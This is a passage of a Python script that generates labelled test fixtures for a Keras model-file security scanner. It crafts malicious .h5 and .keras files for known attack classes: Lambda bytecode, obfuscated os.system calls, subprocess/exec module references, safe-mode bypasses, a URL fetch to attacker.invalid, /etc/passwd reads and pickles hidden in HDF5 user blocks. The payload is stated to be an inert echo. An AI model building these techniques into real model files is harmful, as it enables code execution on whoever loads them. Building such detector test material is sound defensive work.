    add('malicious/lambda_benign_code.h5', 'malicious', 'lambda-code', 'suspicious', ['BW-KERAS-002'], H5_FORMATS,
        'lambda x: x * 2 — harmless-looking, but it is code that runs on load: flagged for review')
    cfg = k3_sequential('lambda_model', [k3_lambda('double', k3_lambda_fn(BENIGN_LAMBDA)), k3_dense()])
    write_keras(d / 'lambda_benign_code.keras', cfg, None)
    add('malicious/lambda_benign_code.keras', 'malicious', 'lambda-code', 'suspicious', ['BW-KERAS-002'],
        ['keras', 'keras-config'], 'lambda x: x * 2 in a .keras file: code, flagged for review')
    # Lambda code only in output_shape (Keras 2 output_shape_type "lambda").
    cfg = k2_sequential('shape_model', [
        k2_lambda('shape', func_dump(BENIGN_LAMBDA), output_shape=func_dump(EVIL), output_shape_type='lambda')])
    write_legacy_h5(d / 'lambda_output_shape.h5', cfg, None, K2_VERSION)
    add('malicious/lambda_output_shape.h5', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        H5_FORMATS, 'payload in the output_shape function, not in function')
    # Raw (non-base64) marshal string: func_load falls back to raw_unicode_escape.
    raw = code_bytes(EVIL).decode('latin-1')
    cfg = k2_sequential('raw_model', [k2_lambda('raw', [raw, None, None])])
    write_legacy_h5(d / 'lambda_raw_marshal.h5', cfg, None, K2_VERSION)
    add('malicious/lambda_raw_marshal.h5', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        H5_FORMATS, 'marshal bytes stored as a Latin-1 string instead of base64')
    # Obfuscated Lambda hidden deep in nested models and wrappers.
    inner = k2_sequential('inner', [{'class_name': 'TimeDistributed', 'config': {
        'name': 'td', 'trainable': True, 'dtype': 'float32',
        'layer': k2_lambda('hidden', func_dump(OBFUSCATED))}}])
    outer = {'class_name': 'Functional', 'config': {'name': 'outer', 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 32], 'dtype': 'float32',
                                                'sparse': False, 'ragged': False, 'name': 'input_1'},
         'name': 'input_1', 'inbound_nodes': []},
        {**inner, 'name': 'inner', 'inbound_nodes': [[['input_1', 0, 0, {}]]]},
        {**k2_dense('head'), 'name': 'head', 'inbound_nodes': [[['inner', 0, 0, {}]]]}],
        'input_layers': [['input_1', 0, 0]], 'output_layers': [['head', 0, 0]]}}
    write_legacy_h5(d / 'nested_obfuscated_lambda.h5', outer, None, K2_VERSION)
    add('malicious/nested_obfuscated_lambda.h5', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        H5_FORMATS, "getattr(__import__('o'+'s'), 'sys'+'tem') inside TimeDistributed inside a nested Sequential")
    inner3 = k3_sequential('inner', [{'module': 'keras.layers', 'class_name': 'Bidirectional', 'config': {
        'name': 'bidi', 'trainable': True, 'dtype': k3_dtype(), 'merge_mode': 'concat',
        'layer': k3_lambda('hidden', k3_lambda_fn(OBFUSCATED))}, 'registered_name': None}])
    cfg = k3_functional('outer', [{**inner3, 'name': 'inner', 'inbound_nodes': k3_inbound()}], ['inner'])
    write_keras(d / 'nested_obfuscated_lambda.keras', cfg, None)
    add('malicious/nested_obfuscated_lambda.keras', 'malicious', 'lambda-bytecode', 'malicious', ['BW-KERAS-001'],
        ['keras', 'keras-config'], 'obfuscated Lambda inside Bidirectional inside a nested Sequential')
    # Bytecode hidden outside any Lambda slot.
    dense_cfg = k3_dense()
    dense_cfg['config']['kernel_regularizer'] = {'module': 'keras.regularizers', 'class_name': 'L2',
                                                 'config': {'l2': base64.b64encode(code_bytes(EVIL)).decode()},
                                                 'registered_name': None}
    write_keras(d / 'hidden_bytecode.keras', k3_sequential('hidden', [dense_cfg]), None)
    add('malicious/hidden_bytecode.keras', 'malicious', 'hidden-bytecode', 'malicious', ['BW-KERAS-001'],
        ['keras', 'keras-config'], 'base64 code object in a regularizer field')

    # --- module references (CVE-2025-1550 family) ---
    run = k3_fn('subprocess', 'run')
    run.update({'name': 'run', 'inbound_nodes': [{'args': [['sh', '-c', CMD]], 'kwargs': {}}]})
    write_keras(d / 'module_subprocess_run.keras', k3_functional('exploit', [run], ['run']), None)
    add('malicious/module_subprocess_run.keras', 'malicious', 'CVE-2025-1550', 'malicious', ['BW-KERAS-003'],
        ['keras', 'keras-config'], 'Functional "layer" subprocess.run called with inbound_nodes args')
    jfrog = k3_lambda('custom', k3_fn('builtins', 'print'),
                      arguments={'cmd': {'class_name': 'function', 'config': 'system', 'module': 'os',
                                         'registered_name': None}})
    write_keras(d / 'lambda_arguments_os_system.keras', k3_sequential('custom', [jfrog]), None)
    add('malicious/lambda_arguments_os_system.keras', 'malicious', 'KERAS-CUSTOM', 'malicious', ['BW-KERAS-003'],
        ['keras', 'keras-config'], 'JFrog KERAS-CUSTOM: {"class_name":"function","config":"system","module":"os"}')
    k2 = k2_sequential('custom', [k2_lambda('custom', func_dump(BENIGN_LAMBDA), arguments={
        'cmd': {'class_name': 'function', 'config': 'system', 'module': 'os', 'registered_name': None}})])
    write_legacy_h5(d / 'lambda_arguments_os_system.h5', k2, None, K2_VERSION)
    add('malicious/lambda_arguments_os_system.h5', 'malicious', 'KERAS-CUSTOM', 'malicious', ['BW-KERAS-003'],
        H5_FORMATS, 'os.system reference in Lambda arguments of a legacy HDF5 model')
    ex = k3_fn('builtins', 'exec')
    ex.update({'name': 'exec', 'inbound_nodes': [{'args': [f"__import__('os').system('{CMD}')"], 'kwargs': {}}]})
    write_keras(d / 'module_builtins_exec.keras', k3_functional('exploit', [ex], ['exec']), None)
    add('malicious/module_builtins_exec.keras', 'malicious', 'CVE-2025-1550', 'malicious', ['BW-KERAS-003'],
        ['keras', 'keras-config'], 'builtins.exec as a Functional node')
    imp = k3_lambda('importer', k3_fn('importlib', 'import_module'), arguments={'name': 'os'})
    write_keras(d / 'module_importlib.keras', k3_sequential('importer', [imp]), None)
    add('malicious/module_importlib.keras', 'malicious', 'CVE-2025-1550', 'malicious', ['BW-KERAS-003'],
        ['keras', 'keras-config'], 'importlib.import_module as a Lambda function')
    p = d / 'config_os_system.json'
    p.write_text(json.dumps({'module': 'os', 'class_name': 'function', 'config': 'system',
                             'registered_name': None}))
    add('malicious/config_os_system.json', 'malicious', 'CVE-2025-1550', 'malicious', ['BW-KERAS-003'],
        ['keras-config'], 'a bare config.json whose root object is os.system')

    # --- Keras-internal gadgets ---
    gf = k3_fn('keras.utils', 'get_file')
    gf.update({'name': 'get_file', 'inbound_nodes': [{'args': ['bulwark-test.txt'], 'kwargs': {
        'origin': 'https://attacker.invalid/bulwark-test.txt', 'cache_dir': '/tmp'}}]})
    write_keras(d / 'get_file_gadget.keras', k3_functional('downloader', [gf], ['get_file']), None)
    add('malicious/get_file_gadget.keras', 'malicious', 'CVE-2025-8747', 'malicious', ['BW-KERAS-005'],
        ['keras', 'keras-config'], 'keras.utils.get_file reached as a Functional node')
    unsafe = k3_lambda('unlock', k3_fn('keras.config', 'enable_unsafe_deserialization'))
    payload = k3_lambda('payload', k3_lambda_fn(EVIL))
    write_keras(d / 'enable_unsafe_deserialization.keras', k3_sequential('bypass', [unsafe, payload]), None)
    add('malicious/enable_unsafe_deserialization.keras', 'malicious', 'CVE-2025-9906', 'malicious',
        ['BW-KERAS-004', 'BW-KERAS-001'], ['keras', 'keras-config'],
        'enable_unsafe_deserialization as a Lambda function, then a bytecode Lambda')
    sga = k3_fn('keras.src.backend.common.global_state', 'set_global_attribute')
    sga.update({'name': 'sga', 'inbound_nodes': [{'args': ['safe_mode_saving', False], 'kwargs': {}}]})
    write_keras(d / 'set_global_attribute.keras', k3_functional('bypass', [sga], ['sga']), None)
    add('malicious/set_global_attribute.keras', 'malicious', 'CVE-2025-9906', 'malicious', ['BW-KERAS-004'],
        ['keras', 'keras-config'], "set_global_attribute('safe_mode_saving', False)")
    lm = k3_fn('keras.saving', 'load_model')
    lm.update({'name': 'nested', 'inbound_nodes': [{'args': ['/tmp/second-stage.keras'],
                                                   'kwargs': {'safe_mode': False}}]})
    write_keras(d / 'nested_load_model.keras', k3_functional('loader', [lm], ['nested']), None)
    add('malicious/nested_load_model.keras', 'malicious', 'CVE-2025-9906', 'malicious', ['BW-KERAS-006'],
        ['keras', 'keras-config'], 'keras.saving.load_model(..., safe_mode=False) as a Functional node')

    # --- TorchModuleWrapper (CVE-2025-49655) ---
    tmw = {'module': 'keras.layers', 'class_name': 'TorchModuleWrapper', 'config': {
        'name': 'torch_module_wrapper', 'trainable': True, 'dtype': k3_dtype(),
        'module': base64.b64encode(torch_zip(Evil())).decode('ascii'), 'output_shape': None},
        'registered_name': None, 'build_config': {'input_shape': [None, 32]}}
    write_keras(d / 'torch_module_wrapper.keras', k3_sequential('wrapped', [tmw]), None)
    add('malicious/torch_module_wrapper.keras', 'malicious', 'CVE-2025-49655', 'malicious',
        ['BW-KERAS-007', 'BW-PKL-001'], ['keras', 'keras-config', 'pytorch-zip'],
        'embedded torch.save blob whose pickle calls os.system')

    # --- path / URL fields (CVE-2025-12058) ---
    sl = serialize_layer(lookup().layers[1], 'k3', functional=False)
    sl['config']['vocabulary'] = '/etc/passwd'
    write_keras(d / 'vocabulary_local_file.keras', k3_sequential('vocab', [sl]), None)
    add('malicious/vocabulary_local_file.keras', 'malicious', 'CVE-2025-12058', 'malicious', ['BW-KERAS-008'],
        ['keras', 'keras-config'], 'StringLookup vocabulary read from /etc/passwd at load')
    tv = {'class_name': 'TextVectorization', 'config': {
        'name': 'text_vectorization', 'trainable': True, 'dtype': 'string', 'max_tokens': None,
        'standardize': 'lower_and_strip_punctuation', 'split': 'whitespace', 'ngrams': None,
        'output_mode': 'int', 'output_sequence_length': 8, 'pad_to_max_tokens': False, 'sparse': False,
        'ragged': False, 'vocabulary': 'https://attacker.invalid/vocab.txt', 'idf_weights': None,
        'encoding': 'utf-8', 'vocabulary_size': 2}}
    write_legacy_h5(d / 'vocabulary_url.h5', k2_sequential('vocab', [tv]), None, K2_VERSION)
    add('malicious/vocabulary_url.h5', 'malicious', 'CVE-2025-12058', 'malicious', ['BW-KERAS-008'], H5_FORMATS,
        'TextVectorization vocabulary fetched from a URL at load')

    # --- TFOpLambda ---
    op = {'class_name': 'TFOpLambda', 'config': {'name': 'tf.io.write_file', 'trainable': True,
                                                 'dtype': 'float32', 'function': 'io.write_file'},
          'name': 'tf.io.write_file',
          'inbound_nodes': [['_CONSTANT_VALUE', -1, '/tmp/bulwark-test', {'contents': ['input_1', 0, 0]}]]}
    cfg = {'class_name': 'Functional', 'config': {'name': 'writer', 'layers': [
        {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None], 'dtype': 'string', 'sparse': False,
                                                'ragged': False, 'name': 'input_1'},
         'name': 'input_1', 'inbound_nodes': []}, op],
        'input_layers': [['input_1', 0, 0]], 'output_layers': [['tf.io.write_file', 0, 0]]}}
    write_legacy_h5(d / 'tfoplambda_write_file.h5', cfg, None, K2_VERSION)
    add('malicious/tfoplambda_write_file.h5', 'malicious', 'tfoplambda-file-io', 'malicious', ['BW-KERAS-010'],
        H5_FORMATS, 'TFOpLambda calling tf.io.write_file')

    # --- custom objects ---
    custom = {'module': 'mypackage.layers', 'class_name': 'MyLayer',
              'config': {'name': 'my_layer', 'trainable': True, 'dtype': k3_dtype(), 'units': 4},
              'registered_name': 'mypackage>MyLayer'}
    write_keras(d / 'custom_object.keras', k3_sequential('custom', [custom]), None)
    add('malicious/custom_object.keras', 'malicious', 'custom-object', 'suspicious', ['BW-KERAS-009'],
        ['keras', 'keras-config'], 'needs code from an unknown package: review, not proof of an attack')

    # --- HDF5 structure ---
    def ext_link(f):
        f['model_weights']['dense'] = h5py.ExternalLink('/etc/passwd', '/dense')
    write_legacy_h5(d / 'hdf5_external_link.h5', model_doc(mlp(), 'k2'), None, K2_VERSION, extra=ext_link)
    add('malicious/hdf5_external_link.h5', 'malicious', 'hdf5-external-link', 'suspicious', ['BW-KERAS-013'],
        H5_FORMATS, 'weights group links to an object in another file')
    evil_pickle = pickle.dumps(Evil(), protocol=2)
    write_legacy_h5(d / 'hdf5_userblock_pickle.h5', model_doc(mlp(), 'k2'), mlp(), K2_VERSION,
                    userblock=evil_pickle)
    add('malicious/hdf5_userblock_pickle.h5', 'malicious', 'polyglot', 'malicious', ['BW-PKL-001'], H5_FORMATS,
        'HDF5 user block holds a pickle (torch.load/pickle.load of the same file runs it)')
    good = (OUT / 'benign/keras2/mlp.h5').read_bytes()
    (d / 'hdf5_truncated.h5').write_bytes(good[: len(good) // 3])
    add('malicious/hdf5_truncated.h5', 'malicious', 'corrupt-hdf5', 'inconclusive', ['BW-KERAS-012'], ['hdf5'],
        'cut-off HDF5 file: never reported clean')


def marshal_vectors():
    """Code objects from every CPython interpreter that is installed (compile only)."""
    sources = [EVIL, OBFUSCATED, BENIGN_LAMBDA, 'lambda x, k=3: (lambda z: z + k)(x)',
               "lambda x: [y * 2 for y in x if y != 'skip']"]
    dumper = r'''
import base64, json, marshal, sys
out = []
def walk(c, names, strings, count):
    count[0] += 1
    names.extend(c.co_names)
    for k in c.co_consts:
        if hasattr(k, 'co_code'):
            walk(k, names, strings, count)
        elif isinstance(k, str):
            strings.append(k)
for src in json.loads(sys.argv[1]):
    top = compile(src, '<string>', 'eval')
    lam = [x for x in top.co_consts if hasattr(x, 'co_code')][0]
    names, strings, count = [], [], [0]
    walk(lam, names, strings, count)
    out.append({'source': src, 'b64': base64.b64encode(marshal.dumps(lam)).decode('ascii'),
                'names': sorted(set(names)), 'strings': sorted(set(strings)), 'codeObjects': count[0]})
sys.stdout.write(json.dumps(out))
'''
    root = pathlib.Path('/root/.pyenv/versions')
    found = {}
    candidates = sorted(root.glob('*/bin/python')) if root.exists() else []
    candidates.append(pathlib.Path(sys.executable))
    for exe in candidates:
        try:
            ver = subprocess.run([str(exe), '-c', 'import sys; print("%d.%d" % sys.version_info[:2])'],
                                 capture_output=True, text=True, timeout=60, check=True).stdout.strip()
            if ver in found:
                continue
            res = subprocess.run([str(exe), '-c', dumper, json.dumps(sources)], capture_output=True, text=True,
                                 timeout=60, check=True)
            found[ver] = json.loads(res.stdout)
        except (OSError, subprocess.SubprocessError, ValueError):
            continue
    if not found:
        return
    def key(v):
        return tuple(int(x) for x in v.split('.'))
    VECTORS.parent.mkdir(parents=True, exist_ok=True)
    VECTORS.write_text(json.dumps({k: found[k] for k in sorted(found, key=key)}, indent=1) + '\n')
    print(f'marshal vectors for Python {", ".join(sorted(found, key=key))}')


def main():
    import shutil
    for sub in ('benign', 'malicious'):
        if (OUT / sub).exists():
            shutil.rmtree(OUT / sub)
    OUT.mkdir(parents=True, exist_ok=True)
    benign()
    malicious()
    for e in entries:
        e['sha256'] = hashlib.sha256((OUT / e['path']).read_bytes()).hexdigest()
    manifest = {'about': 'Keras fixtures: legacy HDF5 (.h5) and .keras archives written in the layouts tf.keras 2.x '
                         'and Keras 3 use (generated by scripts/gen-keras-fixtures.py with h5py; Keras itself is not '
                         'installed), plus crafted malicious variants of every Keras attack class with the inert '
                         'payload "echo bulwark-test".',
                'files': entries}
    (OUT / 'manifest.json').write_text(json.dumps(manifest, indent=1) + '\n')
    total = sum((OUT / e['path']).stat().st_size for e in entries)
    print(f'wrote {len(entries)} Keras fixtures ({total} bytes)')
    if '--no-vectors' not in sys.argv:
        marshal_vectors()


if __name__ == '__main__':
    main()
